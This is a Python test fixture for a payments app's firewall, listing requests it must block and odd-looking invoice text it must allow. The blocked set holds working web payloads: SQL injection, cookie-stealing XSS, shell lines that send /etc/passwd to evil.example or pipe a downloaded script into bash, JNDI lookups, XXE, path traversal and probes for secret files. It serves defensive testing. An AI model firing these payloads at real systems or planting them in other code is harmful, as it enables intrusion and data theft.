"""What the firewall holds back, and what it must let through although it looks odd. All of it our own."""

from dataclasses import dataclass, field
from typing import Any
from urllib.parse import quote

_AGENT = {"Host": "pay.example", "User-Agent": "whatsinvoice-tests/1", "Accept": "*/*"}


@dataclass(frozen=True)
class Call:
    """One request, as a client that escapes nothing would send it."""

    method: str = "GET"
    target: str = "/v1/invoices"
    json: Any = None
    headers: dict[str, str] = field(default_factory=lambda: dict(_AGENT))
    body: bytes | None = None


def _in_every_place(name: str, text: str) -> dict[str, Call]:
    """The same text in a query, a JSON field, a form and a cookie."""
    cookie = quote(text) if ";" in text else text.strip()
    form = {**_AGENT, "Content-Type": "application/x-www-form-urlencoded"}
    return {
        f"{name}, query": Call(target=f"/v1/invoices?customer={quote(text)}"),
        f"{name}, JSON": Call("POST", "/v1/customers", {"name": text}),
        f"{name}, nested JSON": Call("POST", json={"lines": [{"description": text, "quantity": "1"}]}),
        f"{name}, form": Call("POST", "/i/abc/pay", headers=form, body=f"email={quote(text)}".encode()),
        f"{name}, cookie": Call(headers={**_AGENT, "Cookie": f"theme={cookie}"}),
    }


_TEXTS = {
    "SQL, always true": "1' OR '1'='1' -- ",
    "SQL, union": "0 UNION ALL SELECT username, password FROM users--",
    "SQL, stacked": "x'; DROP TABLE invoices; --",
    "SQL, sleeping": "1) AND pg_sleep(10)--",
    "script element": "<script>document.location='//evil.example/'+document.cookie</script>",
    "script in an attribute": '"><img src=x onerror=alert(1)>',
    "script address": "<a href=javascript:alert(1)>pay</a>",
    "shell, piped": "; cat /etc/passwd | nc evil.example 99",
    "shell, substituted": "$(curl http://evil.example/x.sh | bash)",
    "files above": "../../../../etc/passwd",
    "PHP": "<?php system($_GET['c']); ?>",
    "Java lookup": "${jndi:ldap://evil.example/a}",
    "Java class": "java.lang.Runtime.getRuntime().exec('id')",
    "node": "require('child_process').exec('id')",
}
ATTACKS = {name: call for title, text in _TEXTS.items() for name, call in _in_every_place(title, text).items()} | {
    "another's file as an address": Call(target="/v1/invoices?url=http://10.0.0.7/shell.php?"),
    "a file of the system": Call(target="/i/..%2f..%2f..%2fetc/passwd"),
    "a hidden file": Call(target="/.git/config"),
    "a settings file": Call(target="/.env"),
    "a shell history": Call(target="/.bash_history"),
    "a null byte": Call(target="/v1/invoices?customer=a%00b"),
    "a second line in a header": Call(target="/v1/invoices?next=%0d%0aSet-Cookie:%20a=b"),
    "a scanner": Call(headers={**_AGENT, "User-Agent": "sqlmap/1.7 (https://sqlmap.org)"}),
    "another scanner": Call(headers={**_AGENT, "User-Agent": "Mozilla/5.00 (Nikto/2.1.6)"}),
    "a method to trace": Call("TRACE"),
    "a path in a body to put": Call("PUT", json={"bank_code": "../../etc/passwd"}),
    "XML with an entity": Call(
        "POST",
        headers={**_AGENT, "Content-Type": "application/xml"},
        body=b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    ),
    "a file upload": Call(
        "POST", headers={**_AGENT, "Content-Type": "multipart/form-data; boundary=x"}, body=b"--x\r\n\r\n--x--\r\n"
    ),
    "a Java lookup in a header": Call(headers={**_AGENT, "Referer": "${jndi:ldap://evil.example/a}"}),
    "a webhook with a query": Call("POST", "/webhooks/paystack?a=b", {}),
    "a Java lookup in a webhook's head": Call(
        "POST", "/webhooks/whatsapp", {}, {**_AGENT, "X-A": "${${lower:j}ndi:x}"}
    ),
    "an attack on the webhook's verification": Call(
        target="/webhooks/whatsapp?hub.challenge=<script>alert(1)</script>"
    ),
}
WORDS = (
    "logo design",
    "Tie & dye, 2 yards (blue/white)",
    "O'Brien & Sons Ltd.",
    "N'Golo Kanté, jersey no. 7",
    "50% deposit; balance on delivery",
    "Select fabrics from the new order; drop at gate 2",
    "Update of website: insert 3 pages, delete old table of prices",
    "Ankara #4 -- last one!",
    "₦75,000.00 <= agreed price > old price",
    'Cake "Happy birthday Ada"',
    "Rice and beans or yam, and 1 = 1 plate free",
    "https://example.com/catalogue?item=5&size=xl",
    "Transport: Lagos -> Ibadan -> Abuja",
    "Zobo + chapman (case of 12) @ 4500",
    "Repair of cat flap, ls-type lock and nc-25 hinge",
    "Èkó àtìlẹ́yìn, Ọ̀gá Adébáyọ̀",
    "مصطفى",
    "Script for a play, act 1",
    "Exec chair, union cloth, sleep mask",
    "Line one\nLine two",
)
PASSWORDS = ("1' OR '1'='1' --", "<script>Aa1</script>", "$(Rm -rf /)1aA", "../../Etc/passwd1", "UNION SELECT 1aA--")
